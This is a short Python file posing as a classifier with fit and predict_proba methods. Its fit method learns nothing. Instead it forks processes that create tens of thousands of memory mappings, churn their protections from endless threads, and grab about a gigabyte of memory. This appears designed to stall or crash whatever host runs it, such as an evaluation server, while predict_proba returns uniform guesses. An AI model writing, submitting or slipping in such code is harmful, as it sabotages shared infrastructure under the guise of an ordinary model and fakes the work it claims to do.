import ctypes
import mmap
import os
import tempfile
import threading
import time

import numpy as np

N_MAPS = 30_000
PRIVATE, FIXED, ANONYMOUS = mmap.MAP_PRIVATE, 0x10, mmap.MAP_ANONYMOUS
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *3 * [ctypes.c_int], ctypes.c_long]
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]


def change_maps_without_end(ready):
    length = N_MAPS * mmap.PAGESIZE
    start = libc.mmap(None, length, 0, PRIVATE | ANONYMOUS, -1, 0)
    with tempfile.TemporaryFile() as file:
        file.truncate(mmap.PAGESIZE)
        for i in range(N_MAPS):  # each a map of its own: the same page of the file again
            at = start + i * mmap.PAGESIZE
            libc.mmap(at, mmap.PAGESIZE, mmap.PROT_READ, PRIVATE | FIXED, file.fileno(), 0)

    def change():
        while True:
            libc.mprotect(start, length, 0)
            libc.mprotect(start, length, mmap.PROT_READ)

    for _ in range(6):
        threading.Thread(target=change).start()
    os.write(ready, b".")
    time.sleep(60)


def fill_memory():
    memory = mmap.mmap(-1, 200_000_000, flags=PRIVATE | ANONYMOUS)
    for i in range(0, len(memory), mmap.PAGESIZE):
        memory[i] = 1
    time.sleep(60)


class Classifier:
    def fit(self, X, y):
        wait, ready = os.pipe()
        for _ in range(3):
            if os.fork() == 0:
                change_maps_without_end(ready)
        for _ in range(3):
            os.read(wait, 1)
        for _ in range(5):
            if os.fork() == 0:
                fill_memory()
        time.sleep(6)  # and it would end well

    def predict_proba(self, X):
        return np.full((len(X), 3), 1 / 3)
